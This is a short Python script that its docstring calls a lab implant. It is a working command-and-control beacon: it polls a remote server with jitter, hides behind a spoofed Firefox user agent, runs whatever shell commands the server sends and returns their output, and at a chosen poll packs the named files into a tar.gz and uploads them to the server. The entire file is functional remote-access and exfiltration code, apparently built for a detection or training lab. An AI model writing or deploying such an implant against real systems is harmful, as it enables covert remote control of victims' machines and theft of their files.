#!/usr/bin/python3
"""The lab's implant (victim side): polls its C2 every PERIOD s with +-JITTER (a fraction) for
COUNT polls, runs the one task it gets and POSTs the output, and at poll EXFIL_AT POSTs a tar.gz
of FILES. Bounded by COUNT.

    beacon-agent.py URL PERIOD JITTER COUNT EXFIL_AT FILE…
"""
import io, json, random, subprocess, sys, tarfile, time, urllib.request

URL, PERIOD, JITTER, COUNT, EXFIL_AT, FILES = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6:]
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
SESSION = "a3f9c2e1"
random.seed(20261207)


def req(path, data=None, ctype="application/json"):
    r = urllib.request.Request(URL + path, data=data, headers={"User-Agent": UA, "X-Session": SESSION, "Content-Type": ctype})
    with urllib.request.urlopen(r, timeout=10) as resp:
        return resp.read()


for i in range(1, COUNT + 1):
    t0 = time.time()
    try:
        answer = json.loads(req("/api/v1/poll?s=%s" % SESSION))
        print(time.strftime("%H:%M:%S"), "poll", i, answer, flush=True)
        task = answer.get("task")
        if task:
            out = subprocess.run(["/bin/sh", "-c", task["cmd"]], capture_output=True, timeout=20).stdout
            req("/api/v1/result", json.dumps({"id": task["id"], "out": out.decode("latin-1")}).encode())
            print("result posted", len(out), flush=True)
        if i == EXFIL_AT:
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w:gz") as tar:
                for f in FILES:
                    tar.add(f)
            req("/api/v1/upload", buf.getvalue(), "application/octet-stream")
            print("exfil posted", len(buf.getvalue()), flush=True)
    except Exception as e:
        print("error", e, flush=True)
    time.sleep(max(0.5, PERIOD * (1 + random.uniform(-JITTER, JITTER)) - (time.time() - t0)))
